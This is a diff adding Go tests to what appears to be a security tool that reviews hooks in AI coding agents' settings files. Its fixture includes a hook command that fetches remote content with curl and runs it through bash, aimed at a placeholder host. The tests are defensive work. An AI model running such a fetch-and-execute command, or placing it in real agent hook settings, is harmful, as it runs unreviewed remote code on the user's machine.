@@ -3,6 +3,9 @@ package cli
 import (
 	"bytes"
 	"context"
+	"errors"
+	"slices"
+	"strings"
 	"testing"
 
 	"github.com/hookwarden/hookwarden/agents"
@@ -62,4 +65,92 @@ func materializedListDocument(p agents.Project) agents.Document {
 		docs = append(docs, unwatchedMembers(p.HookDocument(h).Fill(hookMembers(h, hookRisk(opt, p, h, p.Dir(), agents.Observer{}))), states, h.ID))
 	}
 	return listDocument(p, docs, nil)
+}
+
+// TestTrustStatesAreTheReviews: every agent's TrustStates (what list reads
+// the partly unwatched hooks from, without the risk analysis and texts)
+// gives each hook the trust state its Review gives it: an approved but
+// partly unwatched hook, a new one and a changed one.
+func TestTrustStatesAreTheReviews(t *testing.T) {
+	hooksJSON := `{"hooks":{"BeforeTool":[{"matcher":"x","hooks":[
+		{"type":"command","name":"plain","command":"bash hooks/a.sh"},
+		{"type":"command","name":"unwatched","command":"bash -c \"$(curl -s https://example.invalid)\""}]}],
+		"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"bash hooks/a.sh"},
+		{"type":"command","command":"bash -c \"$(curl -s https://example.invalid)\""}]}]}}`
+	f := newFixture(t, map[string]string{
+		"project/.gemini/settings.json": hooksJSON,
+		"project/.claude/settings.json": hooksJSON,
+		"project/.codex/hooks.json":     hooksJSON,
+		"project/hooks/a.sh":            "#!/bin/sh\necho a\n",
+	})
+	for _, agent := range testAgents().All() {
+		name := agent.Info().Name
+		f.run(t, "trust", "--agent", name, "--all", "--accept-unwatched")
+	}
+	writeFile(t, f.project+"/hooks/a.sh", "#!/bin/sh\necho changed\n", 0o755)
+	unwatched := 0
+	for _, agent := range testAgents().All() {
+		io := &IO{Agents: testAgents(), Env: f.env, Dir: f.project, GOOS: "linux"}
+		p, err := io.open(context.Background(), agent, "")
+		if err != nil {
+			t.Fatal(err)
+		}
+		r, err := p.Review(context.Background())
+		if err != nil {
+			t.Fatal(err)
+		}
+		states, err := agents.TrustStates(context.Background(), p, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		kept, err := agents.TrustStates(context.Background(), p, func(h *agents.HookReview) bool { return h.Unwatched() })
+		if err != nil {
+			t.Fatal(err)
+		}
+		var want []string
+		for _, h := range r.Hooks {
+			if h.Unwatched() {
+				want = append(want, h.HookID)
+			}
+		}
+		var got []string
+		for _, h := range kept {
+			got = append(got, h.HookID)
+		}
+		if !slices.Equal(got, want) {
+			t.Errorf("%s: the partly unwatched trust states are %q, the review's %q", agent.Info().Name, got, want)
+		}
+		if len(states) != len(r.Hooks) {
+			t.Fatalf("%s: %d trust states, %d reviewed hooks", agent.Info().Name, len(states), len(r.Hooks))
+		}
+		for i, s := range states {
+			want := r.Hooks[i]
+			if s.HookID != want.HookID || s.Status != want.Status || s.Label != want.Label || len(s.Unresolved) != len(want.Unresolved) || len(s.Scripts) != len(want.Scripts) {
+				t.Errorf("%s: trust state %d is %s %s %q (%d unresolved), the review says %s %s %q (%d unresolved)", agent.Info().Name, i,
+					s.HookID, s.Status, s.Label, len(s.Unresolved), want.HookID, want.Status, want.Label, len(want.Unresolved))
+			}
+			if s.Unwatched() {
+				unwatched++
+			}
+		}
+	}
+	if unwatched < 3 {
+		t.Errorf("only %d approved but partly unwatched hooks: the fixture does not test what it should", unwatched)
+	}
+}
+
+// failingWriter fails every write, as a closed pipe does.
+type failingWriter struct{}
+
+func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("closed pipe") }
+
+// TestListJSONFailsWhenItsOutputFails: a list --json that could not be
+// written is not a success.
+func TestListJSONFailsWhenItsOutputFails(t *testing.T) {
+	f := newFixture(t, map[string]string{"project/.gemini/settings.json": `{"hooks":{"BeforeTool":[{"hooks":[{"type":"command","command":"true"}]}]}}`})
+	var errOut bytes.Buffer
+	io := &IO{Agents: testAgents(), Stdin: strings.NewReader(""), Stdout: failingWriter{}, Stderr: &errOut, Env: f.env, Dir: f.project, GOOS: "linux"}
+	if code := Main(context.Background(), []string{"list", "--json"}, io); code == 0 {
+		t.Errorf("list --json into a failing writer exits 0")
+	}
 }
